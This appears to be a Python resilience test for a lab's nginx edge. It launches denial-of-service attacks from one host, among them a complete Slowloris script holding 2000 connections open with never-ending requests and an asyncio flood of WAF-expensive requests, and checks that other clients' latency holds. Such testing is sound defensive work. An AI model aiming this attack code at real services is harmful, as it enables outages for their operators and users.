"""Abusive clients at one address of the lab; the others must not notice them."""

import base64
import json
import re
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from statistics import quantiles
from tempfile import TemporaryDirectory

from clients import Meter
from expensive import Limits, shapes
from faults import flows
from inside import into, on
from lab import ADDRESSES, in_network, measured, play
from traps import traps

TARGET = f"{ADDRESSES['lb1']}:443"
# The source of the attacks: a host that is not a client otherwise.
ATTACKER = "ops1"
SECONDS = 20
EDGE = ("site", "--limit", "lb1", "--tags", "nginx")
NGINX = "cat $(printf '/proc/%s/schedstat ' $(pidof nginx))"
# Begins requests and ends none, reopens connections that the edge closes, and prints their highest concurrent number.
SLOWLORIS = """
import asyncio, resource, ssl, sys

async def hold(open_now):
    context = ssl._create_unverified_context()
    while True:
        try:
            reader, writer = await asyncio.open_connection("{address}", 443, ssl=context)
        except OSError:
            await asyncio.sleep(1)
            continue
        open_now.add(writer)
        try:
            writer.write(b"GET / HTTP/1.1\\r\\nHost: tradefleet.test\\r\\n")
            while not reader.at_eof():
                writer.write(b"X-Slow: 1\\r\\n")
                await writer.drain()
                await asyncio.sleep(2)
        except OSError:
            pass
        open_now.discard(writer)
        writer.close()

async def main():
    open_now, most = set(), 0
    tasks = [asyncio.create_task(hold(open_now)) for _ in range({connections})]
    for _ in range({seconds}):
        await asyncio.sleep(1)
        most = max(most, len(open_now))
    print(most)
    sys.stdout.flush()
    import os
    os._exit(0)

resource.setrlimit(resource.RLIMIT_NOFILE, [resource.getrlimit(resource.RLIMIT_NOFILE)[1]] * 2)
asyncio.run(main())
"""
CONNECTIONS = 2000
# Sends these requests in turn at this rate, over connections that are reopened if the edge closes them; then prints
# the number of responses with each status.
EXPENSIVE = """
import asyncio, base64, collections, json, ssl, sys, time

REQUESTS = [base64.b64decode(each) for each in json.load(sys.stdin)]
statuses = collections.Counter()

async def answer(reader):
    head = await reader.readuntil(b"\\r\\n\\r\\n")
    fields = dict(line.lower().split(b": ", 1) for line in head.split(b"\\r\\n")[1:] if b": " in line)
    await reader.readexactly(int(fields.get(b"content-length", 0)))
    if fields.get(b"transfer-encoding") == b"chunked":
        while size := int(await reader.readline(), 16):
            await reader.readexactly(size + 2)
        await reader.readline()
    return int(head.split()[1]), fields.get(b"connection") == b"close"

async def client(number, began):
    context = ssl._create_unverified_context()
    writer = None
    for turn in range(number, {rate} * {seconds}, {clients}):
        await asyncio.sleep(max(0, began + turn / {rate} - time.monotonic()))
        if time.monotonic() > began + {seconds}:
            break
        try:
            if writer is None:
                reader, writer = await asyncio.open_connection("{address}", 443, ssl=context)
            writer.write(REQUESTS[turn * 7 % len(REQUESTS)])
            status, close = await asyncio.wait_for(answer(reader), 10)
        except (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError):
            status, close = 0, True
        statuses[status] += 1
        if close and writer:
            writer.close()
            writer = None

async def main():
    began = time.monotonic()
    await asyncio.gather(*(client(number, began) for number in range({clients})))
    print(json.dumps(statuses))

asyncio.run(main())
"""


def flood(_run: Meter) -> None:
    """Send a thousand requests a second from one address; compare another client's latency with that before."""
    # This is the role's own limit: the lab's is higher than the meter's rate.
    play(*EDGE, nginx_rate_per_address="200")
    try:
        idle = _p99()
        with _flooding() as attack:
            busy = _p99()
            output = attack.communicate(timeout=60)[0]
    finally:
        play(*EDGE)
    counts = re.search(r"status codes: (\d+) 2xx, \d+ 3xx, (\d+) 4xx", output)
    assert counts, output
    served, refused = int(counts[1]), int(counts[2])
    measured(
        f"A thousand requests a second from one address: {served} served, {refused} refused with 429; "
        f"another client's p99 {busy:.1f} ms, {idle:.1f} ms before"
    )
    assert refused > served
    assert busy <= 2 * idle


@contextmanager
def _flooding() -> Iterator["subprocess.Popen[str]"]:
    argv = [
        *in_network(ATTACKER),
        "h2load",
        "--h1",
        "--clients=20",
        "--rps=50",
        f"--duration={SECONDS + 5}",
    ]
    with subprocess.Popen(
        [*argv, f"--connect-to={TARGET}", "https://tradefleet.test/v1/instruments"], stdout=subprocess.PIPE, text=True
    ) as process:
        try:
            yield process
        finally:
            process.kill()


def _p99() -> float:
    """Return the 99th percentile, in milliseconds, of a well-behaved client's reads."""
    with TemporaryDirectory() as folder:
        log = Path(folder) / "log"
        argv = ["h2load", "--h1", "--clients=4", "--rps=10", f"--duration={SECONDS}", f"--log-file={log}"]
        subprocess.run(
            [*argv, f"--connect-to={TARGET}", "https://tradefleet.test/version"], check=True, capture_output=True
        )
        answers = [[int(field) for field in line.split()] for line in log.read_text().splitlines()]
    assert {status for _, status, _ in answers} == {200}
    return quantiles([took for _, _, took in answers], n=100)[98] / 1000


def expensive(_run: Meter) -> None:
    """Send the most expensive requests for a WAF, at the limit of one address; compare another client's p99 before.

    Half of them are small, so all count as ordinary requests, and half are as large as the edge inspects.
    """
    small = Limits(body=999, header=1000)
    requests = [*traps(small), *shapes(small), *shapes(Limits()), *list(traps(Limits()))[::2]]
    wires = [base64.b64encode(request.wire("tradefleet.test")).decode() for request in requests]
    rate = 200
    script = EXPENSIVE.format(address=ADDRESSES["lb1"], rate=rate, seconds=SECONDS + 5, clients=20)
    play(*EDGE, nginx_rate_per_address=str(rate), nginx_waf_mode="block")
    try:
        idle = _p99()
        logs = _log_bytes()
        with subprocess.Popen(
            [*into(f"tf-{ATTACKER}"), "python3", "-c", script],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        ) as attack:
            try:
                assert attack.stdin
                attack.stdin.write(json.dumps(wires))
                attack.stdin.close()
                attack.stdin = None
                before = _nginx_seconds()
                busy = _p99()
                spent = _nginx_seconds() - before
                answers = {
                    int(status): count for status, count in json.loads(attack.communicate(timeout=60)[0]).items()
                }
            finally:
                attack.kill()
        written = _log_bytes() - logs
    finally:
        play(*EDGE)
    sent = sum(answers.values())
    measured(
        f"{rate} expensive requests a second from one address, of {len(wires)} kinds: {sent} sent, answers {answers}, "
        f"{1000 * spent / (rate * SECONDS):.1f} ms of a core for each, {written // sent} bytes of logs; "
        f"another client's p99 {busy:.1f} ms, {idle:.1f} ms before"
    )
    assert sent > 0.8 * rate * SECONDS
    assert not [status for status in answers if status == 0 or status >= 500]
    assert busy <= 2 * idle
    assert written <= sent * 64 * 1024


def _nginx_seconds() -> float:
    """Return the seconds of CPU time that nginx on lb1 has used."""
    return sum(int(line.split()[0]) for line in on("lb1", NGINX).splitlines()) / 1e9


def _log_bytes() -> int:
    """Return the bytes of nginx's logs on lb1, including rotated ones."""
    return sum(map(int, on("lb1", "stat -c %s /var/log/nginx/*").split()))


def slowloris(run: Meter) -> None:
    """Hold two thousand connections open whose requests never end; the meter's clients must be served as usual."""
    script = SLOWLORIS.format(address=ADDRESSES["lb1"], connections=CONNECTIONS, seconds=2 * SECONDS)
    most = int(on(ATTACKER, f"python3 - <<'END'\n{script}END\n"))
    measured(f"Slowloris: {most} connections at once, their requests never ending")
    assert most >= 0.95 * CONNECTIONS
    flows(run)
